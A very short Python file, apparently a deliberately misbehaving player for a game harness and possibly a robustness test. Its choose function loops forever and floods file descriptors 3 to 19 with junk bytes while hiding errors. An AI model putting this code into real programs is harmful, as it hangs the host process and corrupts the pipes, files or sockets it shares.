"""Never comes to the end of its line."""

import contextlib
import os


def choose(game, state):
    while True:
        for stream in range(3, 20):
            with contextlib.suppress(OSError):
                os.write(stream, b"na " * 10_000)
